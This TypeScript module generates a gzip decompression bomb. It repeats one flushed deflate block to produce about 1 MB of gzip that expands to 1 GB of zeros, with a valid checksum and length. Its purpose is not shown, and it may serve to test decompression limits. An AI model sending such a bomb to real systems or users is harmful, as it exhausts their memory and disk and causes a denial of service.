import { constants, crc32, deflateRawSync } from 'node:zlib';

const pieceLength = 1_000_000;
const pieces = 1000;
const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]);
const lastBlock = Buffer.from([3, 0]);
let made: Buffer | undefined;

/** Gives 1 GB of zeros in one gzip member of about 1 MB; made once. */
export function createBomb(): Buffer {
  made ??= compressZeros();
  return made;
}

/** After a full flush nothing refers back, so the same compressed piece may follow itself. */
function compressZeros(): Buffer {
  const zeros = Buffer.alloc(pieceLength);
  const piece = deflateRawSync(zeros, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  let checksum = 0;
  for (let count = 0; count < pieces; count++) checksum = crc32(zeros, checksum);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(checksum, 0);
  trailer.writeUInt32LE(pieces * pieceLength, 4);
  return Buffer.concat([header, ...Array<Buffer>(pieces).fill(piece), lastBlock, trailer]);
}
